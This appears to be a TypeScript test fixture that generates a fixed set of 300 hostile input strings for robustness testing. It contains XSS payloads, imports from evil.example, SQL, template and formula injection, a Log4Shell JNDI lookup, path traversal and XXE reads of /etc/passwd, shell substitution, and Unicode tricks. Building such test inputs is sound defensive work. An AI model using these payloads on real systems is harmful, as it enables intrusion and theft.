/**
 * Three hundred texts that mean harm, the same ones in every run: code where text is expected, letters
 * that turn lines round or cannot be seen, words without an end, and halves of letters.
 */
const COUNT = 300;
const LONG = 10_000;
/** What must never run: each leaves a mark on the window, opens a dialog or asks another server. */
const CODE = [
	'window.ran=true',
	'parent.ran=true',
	'alert(1)',
	'import("//evil.example/x.js")',
	'top["ran"]=1'
];
const AROUND: ((code: string) => string)[] = [
	(code) => `<script>${code}</script>`,
	(code) => `<ScRiPt/x>${code}</sCrIpT>`,
	(code) => `<img src=x onerror="${code}">`,
	(code) => `"><svg/onload='${code}'>`,
	(code) => `<svg><script href="data:,${code}"/>`,
	(code) => `<svg><animate onbegin='${code}' attributeName=x dur=1s>`,
	(code) => `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
	(code) => `<object data='data:text/html,<script>${code}</script>'>`,
	(code) => `<details open ontoggle='${code}'>x</details>`,
	(code) => `<input autofocus onfocus='${code}'>`,
	(code) => `<video><source onerror='${code}'>`,
	(code) => `<math><mtext><style><img src=x onerror='${code}'>`,
	(code) => `</textarea></title><script>${code}</script>`,
	(code) => `<!--><img src=x onerror=${code}>-->`,
	(code) => `<a href='javascript:${code}'>bấm</a>`,
	(code) => `<form action='javascript:${code}'><button>ok</form>`,
	(code) => `&lt;script&gt;${code}&lt;/script&gt;`,
	(code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
	(code) => `javascript:${code}`,
	(code) => `JaVa\tScRiPt:${code}`,
	(code) => `data:text/html,<script>${code}</script>`,
	(code) => `';${code};//`,
	(code) => `"-${code}-"`,
	(code) => `\${${code}}`,
	(code) => `{{constructor.constructor('${code}')()}}`,
	(code) => `{@html "<script>${code}</script>"}`,
	(code) => `<%= ${code} %>`,
	(code) => `#{${code}}`
];
const NAMES_OF_OBJECTS = [
	'__proto__',
	'constructor',
	'prototype',
	'hasOwnProperty',
	'toString',
	'valueOf',
	'__defineGetter__',
	'{"__proto__":{"ran":true}}',
	'[object Object]',
	'undefined',
	'null',
	'NaN',
	'true',
	'-0',
	'1e309'
];
const OTHER_LANGUAGES = [
	"Robert'); DROP TABLE entries;--",
	"' OR '1'='1",
	'1; UPDATE log SET bytes = x',
	"' UNION SELECT pin FROM staff--",
	'%_%',
	"=cmd|'/C calc'!A0",
	'+1+1',
	'-2+3',
	'@SUM(1+1)',
	'=HYPERLINK("http://evil.example","bấm")',
	'../../../../etc/passwd',
	'..\\..\\windows\\win.ini',
	'%00%0a%3Cscript%3E',
	'${jndi:ldap://evil.example/x}',
	'%s%n%x%p',
	'$(reboot)`reboot`',
	'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
	'{% raw %}{{7*7}}{% endraw %}',
	'<style>body{display:none}</style>',
	'<base href="//evil.example/">',
	'<meta http-equiv=refresh content="0;url=//evil.example">',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'(((((((((((a+)+)+)+)+)+$',
	'\\',
	'[.*'
];
const SIGNS = [
	0x00, 0x01, 0x07, 0x08, 0x0b, 0x1b, 0x7f, 0x85, 0x9f, 0xad, 0x61c, 0x180e, 0x200b, 0x200c, 0x200d,
	0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2069,
	0x3000, 0xfe0f, 0xfeff, 0xfffc, 0xfffe, 0xe0041
];
const PICTURES = [
	'🤒',
	'🩺',
	'🇻🇳',
	'👩🏽‍⚕️',
	'👨‍👩‍👧‍👦',
	'🏴‍☠️',
	'1️⃣',
	'ﷺ',
	'﷽',
	'𒐫',
	'𝕊𝕠̂́𝕥',
	'꧅',
	'⸻',
	'ﬃ',
	'İi̇ıI'
];
const HALVES = [
	'\ud83d',
	'\udc00',
	'sốt\ud800 cao',
	'\udc00\ud800',
	'\ud83e\ud83e\udd12',
	'\udfffx'
];
const ENDLESS = ['W', 'ệ', '🤒', '.', '0', '<b>', '\u00a0', '_', 'ﷺ', 'a\u00ad', '中', '\u0301'];
const MARKS = '\u0301\u0323\u0302\u031b\u0334\u0338\u035c\u0361\u0300\u0309';

/** A letter under so many marks that it reaches into the lines around it. */
function stack(letter: string, height: number): string {
	return letter + MARKS.repeat(height).slice(0, height);
}

function basicTexts(): string[] {
	return [
		...CODE.flatMap((code) => AROUND.map((around) => around(code))),
		...NAMES_OF_OBJECTS,
		...OTHER_LANGUAGES,
		...SIGNS.map((sign) => `a${String.fromCodePoint(sign)}gnp.exe`),
		...PICTURES,
		...HALVES,
		...ENDLESS.map((part) => part.repeat(Math.ceil(LONG / part.length)).slice(0, LONG)),
		...[1, 8, 40, 200].flatMap((height) =>
			['a', 'Z', 'ư', ' '].map((letter) => stack(letter, height).repeat(4))
		)
	];
}

/** All of them; what is missing to three hundred is put together from two. */
export function hostileTexts(): string[] {
	const texts = [...new Set(basicTexts())];
	const short = texts.filter((text) => text.length < 60);
	for (let at = 0; texts.length < COUNT; at++) {
		const one = short[(at * 7) % short.length] ?? '';
		const other = short[(at * 31 + 11) % short.length] ?? '';
		texts.push(`${one} ${other}`);
	}
	return texts.slice(0, COUNT);
}
